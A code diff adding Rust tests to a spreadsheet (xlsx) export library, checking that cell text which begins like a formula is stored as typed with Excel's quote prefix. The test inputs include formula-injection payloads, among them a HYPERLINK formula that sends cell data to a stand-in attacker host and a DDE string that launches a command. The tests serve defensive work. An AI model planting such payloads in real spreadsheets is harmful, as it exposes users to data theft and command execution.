@@ -716,3 +716,60 @@ fn ret_data_row_round_trips_and_empty_and_large_tabs_work() {
     assert_eq!(big.end().map(|(r, _)| r), Some(HEADER_ROW + 10_000));
     assert_eq!(text_at(&big, HEADER_ROW + 10_000, 0), "V-09999");
 }
+
+// ---------------------------------------------------------------- formula injection
+
+/// The `s` (style index) attribute of cell `cell` (e.g. "C6") in a sheet's XML.
+fn cell_style(xml: &str, cell: &str) -> Option<usize> {
+    let start = xml.find(&format!("<c r=\"{cell}\""))?;
+    let tag = &xml[start..start + xml[start..].find('>')?];
+    let s = tag.split(" s=\"").nth(1)?;
+    s[..s.find('"')?].parse().ok()
+}
+
+/// Whether the `index`-th `<xf>` of `cellXfs` in styles.xml carries Excel's quote prefix.
+fn style_has_quote_prefix(bytes: &[u8], index: usize) -> bool {
+    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
+    let mut styles = String::new();
+    zip.by_name("xl/styles.xml")
+        .unwrap()
+        .read_to_string(&mut styles)
+        .unwrap();
+    let xfs = &styles[styles.find("<cellXfs").unwrap()..styles.find("</cellXfs>").unwrap()];
+    let xf = xfs.split("<xf ").nth(index + 1).unwrap();
+    xf[..xf.find('>').unwrap()].contains("quotePrefix=\"1\"")
+}
+
+#[test]
+fn text_a_spreadsheet_would_run_is_kept_as_typed_and_quote_prefixed() {
+    let hostile = [
+        "=HYPERLINK(\"http://attacker.test/?\"&A1,\"Click\")",
+        "+cmd|' /C calc'!A0",
+        "-1+2",
+        "@SUM(1,2)",
+        "\t=1+1",
+    ];
+    let mut wb = poam(hostile.len(), 0, 0);
+    for (row, text) in wb.open.iter_mut().zip(hostile) {
+        row.weakness_name = text.to_owned();
+    }
+    wb.header.csp = "=1+1".into();
+    let bytes = write_poam_xlsx(&wb).unwrap();
+    let mut book = open(&bytes);
+    let r = range(&mut book, POAM_TABS[0]);
+    let col = columns(&r)["Weakness Name"];
+    let xml = sheet_xml(&bytes, 0);
+    for (i, text) in hostile.iter().enumerate() {
+        let row = 5 + i as u32;
+        assert_eq!(text_at(&r, row, col), *text, "shown exactly as typed");
+        let cell = format!("{}{}", column_letters(col), row + 1);
+        let style = cell_style(&xml, &cell).unwrap_or_else(|| panic!("{cell} has no style"));
+        assert!(style_has_quote_prefix(&bytes, style), "{cell}: {text:?}");
+    }
+    // An ordinary cell keeps the column's format, without the prefix.
+    let plain = format!("{}6", column_letters(columns(&r)["POAM ID"]));
+    assert!(cell_style(&xml, &plain).is_none_or(|s| !style_has_quote_prefix(&bytes, s)));
+    assert_eq!(text_at(&r, 2, 0), "=1+1");
+    let csp_style = cell_style(&xml, "A3").unwrap();
+    assert!(style_has_quote_prefix(&bytes, csp_style));
+}
